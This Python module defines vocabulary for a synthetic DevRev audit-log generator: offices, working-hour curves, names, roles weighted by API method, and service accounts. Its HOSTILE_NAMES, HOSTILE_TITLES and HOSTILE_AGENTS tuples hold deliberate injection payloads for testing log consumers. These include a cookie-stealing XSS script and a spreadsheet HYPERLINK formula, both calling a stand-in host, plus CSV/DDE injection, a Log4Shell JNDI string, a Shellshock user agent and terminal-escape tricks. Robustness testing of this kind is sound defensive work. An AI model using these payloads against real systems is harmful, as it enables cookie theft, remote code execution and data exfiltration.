"""The vocabulary of the world: names, offices, roles, API methods, user agents, and strings that bite.

Addresses come from the ranges reserved for documentation (RFC 5737, RFC 3849), so none belongs to anyone.
"""

from dataclasses import dataclass
from typing import Final


@dataclass(frozen=True, slots=True, eq=False)
class Office:
    """A place of work. `utc_offset` in hours, the same all year: the world knows no summer time."""

    city: str
    utc_offset: float
    share: float
    addresses: tuple[str, ...]


@dataclass(frozen=True, slots=True, eq=False)
class Operation:
    """A DevRev API method: what the log calls it, and the kind of object it names (None: it names none)."""

    method: str
    operation_type: str
    category: str
    kind: str | None = None
    second: str | None = None


OFFICES: Final = (
    Office("Austin", -6.0, 0.30, ("198.51.100.10", "198.51.100.11")),
    Office("Dublin", 0.0, 0.22, ("198.51.100.34",)),
    Office("Berlin", 1.0, 0.14, ("198.51.100.66", "198.51.100.67")),
    Office("Bengaluru", 5.5, 0.26, ("198.51.100.130", "198.51.100.131", "2001:db8:51::10")),
    Office("São Paulo", -3.0, 0.08, ("198.51.100.194",)),
)

# How likely someone is at work, by the hour of their day: the last entries are people who stay late.
WORKING_HOURS: Final = (
    *(0.004, 0.002, 0.002, 0.002, 0.004, 0.01, 0.04, 0.18, 0.62, 0.95, 1.0, 0.97),
    *(0.60, 0.72, 0.98, 1.0, 0.93, 0.70, 0.32, 0.16, 0.11, 0.08, 0.04, 0.01),
)
WEEKEND: Final = 0.06

GIVEN_NAMES: Final = (
    *("Amara", "Ben", "Carla", "Deepa", "Elena", "Farid", "Grace", "Hiro", "Ines", "Jonas", "Kavya", "Liam", "Maeve"),
    *("Nadia", "Omar", "Priya", "Quinn", "Rosa", "Søren", "Tomás", "Uma", "Viktor", "Wren", "Ximena", "Yusuf", "Zoë"),
    *("Łukasz", "Nguyễn", "Björk", "Chloé", "Anand", "Meera", "Rahul", "Sanjay", "Aoife", "Ciarán", "Jürgen", "Anaïs"),
)
FAMILY_NAMES: Final = (
    *("Abara", "Bauer", "Costa", "Dubois", "Eriksen", "Fitzgerald", "García", "Haddad", "Iyer", "Jansen", "Kowalski"),
    *(
        "Lindqvist",
        "Murphy",
        "Nakamura",
        "O\u2019Brien",
        "Patel",
        "Quispe",
        "Rao",
        "Schäfer",
        "Torres",
        "Usman",
        "Varga",
    ),
    *(
        "Walsh",
        "Xu",
        "Y\u0131ld\u0131z",
        "Zieliński",
        "Menon",
        "Krishnan",
        "D'Souza",
        "Müller",
        "Ferreira",
        "Whitaker",
        "Ng",
    ),
)
# Display names that a careless reader would run, draw or trip over.
HOSTILE_NAMES: Final = (
    "Robin <img src=x onerror=alert(1)> Park",
    "=cmd|'/C calc'!A0",
    "\x1b[31mRed Team\x1b[0m",
    "Eve \u202egnp.exe",
    "李娜",
    "محمد الخطيب",
    'Jo "DROP TABLE events;--" Smith',
    "Zalgo Z̷̢͖a̸l̶g̵o̷",
)
HOSTILE_TITLES: Final = (
    "<script>fetch('//203.0.113.9/'+document.cookie)</script>",
    '=HYPERLINK("http://203.0.113.9/?x="&A1,"invoice")',
    "Login fails after \x1b]0;owned\x07 upgrade",
    "Zero\x00byte in the subject",
    'line one\nline two\r\n{"event": "forged"}',
    "ﷺ 🧾 données perdues \u2014 数据丢失",
    "{{7*7}} ${jndi:ldap://203.0.113.9/a}",
)
HOSTILE_AGENTS: Final = (
    "Mozilla/5.0 (<svg/onload=alert(1)>)",
    "() { :;}; /bin/bash -c 'id'",
    "curl/8.5.0\u202e\u2066",
)
SUBJECTS: Final = (
    *(
        "Cannot log in",
        "Invoice shows wrong tax",
        "Webhook retries stop",
        "Slow dashboard",
        "SSO loop",
        "CSV import fails",
    ),
    *("Rate limit too low", "Refund request", "API returns 500", "Data residency question", "Seat count is off"),
    *("Export is empty", "Search misses results", "Mobile app crashes", "Renewal terms", "Upgrade path"),
)
COMPANIES: Final = (
    *("Alder", "Birch", "Cobalt", "Delta", "Ember", "Fjord", "Granite", "Harbor", "Indigo", "Juniper", "Kestrel"),
    *("Larch", "Meadow", "Nimbus", "Onyx", "Pioneer", "Quarry", "Ridge", "Summit", "Tundra", "Umber", "Vertex"),
)

BROWSERS: Final = (
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0",
    "DevRev/3.14 (iPhone; iOS 18.1; Scale/3.00)",
)

WORKS_LIST: Final = Operation("works.list", "read", "work")
TICKET_GET: Final = Operation("works.get", "read", "work", "ticket")
TICKET_UPDATE: Final = Operation("works.update", "update", "work", "ticket")
TICKET_CREATE: Final = Operation("works.create", "create", "work", "ticket")
TICKETS_EXPORT: Final = Operation("works.export", "read", "work", "ticket", "ticket")
ISSUE_GET: Final = Operation("works.get", "read", "work", "issue")
ISSUE_UPDATE: Final = Operation("works.update", "update", "work", "issue")
TIMELINE_LIST: Final = Operation("timeline-entries.list", "read", "timeline", "ticket")
TIMELINE_CREATE: Final = Operation("timeline-entries.create", "create", "timeline", "ticket")
ACCOUNTS_LIST: Final = Operation("accounts.list", "read", "account")
ACCOUNT_GET: Final = Operation("accounts.get", "read", "account", "account")
ACCOUNT_UPDATE: Final = Operation("accounts.update", "update", "account", "account")
ARTIFACT_LOCATE: Final = Operation("artifacts.locate", "read", "artifact", "artifact")
CONVERSATION_GET: Final = Operation("conversations.get", "read", "conversation", "conversation")
CONVERSATION_UPDATE: Final = Operation("conversations.update", "update", "conversation", "conversation")
SELF: Final = Operation("dev-users.self", "read", "identity")
PERSON_GET: Final = Operation("dev-users.get", "read", "identity", "devu")
LOGIN: Final = Operation("auth-tokens.create", "other", "auth")
LINK: Final = Operation("links.create", "create", "link", "ticket", "issue")

# Each role's operations and how often it uses them.
ROLES: Final[dict[str, tuple[tuple[Operation, int], ...]]] = {
    "support": (
        *((WORKS_LIST, 14), (TICKET_GET, 30), (TIMELINE_LIST, 16), (TIMELINE_CREATE, 9), (TICKET_UPDATE, 8)),
        *((CONVERSATION_GET, 7), (CONVERSATION_UPDATE, 3), (ACCOUNT_GET, 4), (ARTIFACT_LOCATE, 4), (LINK, 2)),
        *((SELF, 2), (LOGIN, 1)),
    ),
    "success": (
        *((ACCOUNTS_LIST, 12), (ACCOUNT_GET, 34), (ACCOUNT_UPDATE, 6), (TICKET_GET, 16), (CONVERSATION_GET, 10)),
        *((Operation("opportunities.get", "read", "opportunity", "opportunity"), 8), (TIMELINE_LIST, 6), (SELF, 2)),
        *((PERSON_GET, 2), (LOGIN, 1)),
    ),
    "sales": (
        *((ACCOUNTS_LIST, 16), (ACCOUNT_GET, 28), (ACCOUNT_UPDATE, 4), (SELF, 2), (LOGIN, 1), (PERSON_GET, 3)),
        *((Operation("opportunities.list", "read", "opportunity"), 12),),
        *((Operation("opportunities.get", "read", "opportunity", "opportunity"), 20),),
        *((Operation("opportunities.update", "update", "opportunity", "opportunity"), 8),),
    ),
    "engineering": (
        *((WORKS_LIST, 24), (ISSUE_GET, 38), (ISSUE_UPDATE, 12), (TICKET_GET, 6), (LINK, 3), (SELF, 2), (LOGIN, 1)),
        *((Operation("works.create", "create", "work", "issue"), 5), (TIMELINE_LIST, 4)),
        *((Operation("articles.get", "read", "article", "article"), 5),),
    ),
    "operations": (
        *((Operation("dev-users.list", "read", "identity"), 16), (PERSON_GET, 22), (SELF, 3), (LOGIN, 4)),
        *((Operation("dev-users.update", "update", "identity", "devu"), 4),),
        *((Operation("groups.members.add", "update", "group", "devu"), 3),),
        *((Operation("webhooks.list", "read", "integration"), 4), (WORKS_LIST, 10), (ISSUE_GET, 10)),
        *((Operation("tags.create", "create", "customization"), 1),),
    ),
    "finance": (
        *((ACCOUNT_GET, 30), (ACCOUNTS_LIST, 20), (SELF, 2), (LOGIN, 1), (ARTIFACT_LOCATE, 8)),
        *((Operation("reports.export", "other", "report"), 3),),
    ),
    "service": (
        *((WORKS_LIST, 20), (TICKET_GET, 30), (TICKET_CREATE, 10), (TICKET_UPDATE, 14), (TIMELINE_CREATE, 10)),
        *((ACCOUNT_GET, 8), (TICKETS_EXPORT, 1), (Operation("works.delete", "delete", "work", "ticket"), 1)),
        *((Operation("artifacts.prepare", "create", "artifact", "artifact"), 4),),
    ),
    "system": (
        *((TICKET_UPDATE, 20), (Operation("slas.evaluate", "other", "sla", "ticket"), 30), (TIMELINE_CREATE, 12)),
        *((Operation("conversations.create", "create", "conversation", "conversation"), 6),),
        *((Operation("articles.index", "other", "article", "article"), 8),),
        *((Operation("search.reindex", "other", "search"), 4),),
    ),
}
CATEGORIES: Final = tuple(sorted({operation.category for role in ROLES.values() for operation, _ in role}))
OPERATION_TYPES: Final = ("create", "read", "update", "delete", "other")

# (name, requests an hour compared with a person at work)
SERVICE_ACCOUNTS: Final = (
    *(("Zendesk Sync", 3.0), ("Snowflake Loader", 1.5), ("SCIM Provisioner", 0.4), ("Release Notes CI", 0.5)),
    *(("Status Page", 0.6), ("PagerDuty Bridge", 0.8), ("Billing Mirror", 1.0), ("Data Warehouse Export", 0.7)),
    *(("Slack Relay", 2.0), ("Email Gateway", 2.2), ("QA Robot", 0.5), ("Translation Service", 0.6)),
)
SYSTEM_USERS: Final = (("DevRev Bot", 2.5), ("SLA Engine", 2.0), ("Search Indexer", 0.8))

# (role, people of it in an organisation of 260)
STAFF: Final = (
    *(("support", 68), ("success", 34), ("sales", 42), ("engineering", 82), ("operations", 18), ("finance", 16)),
)
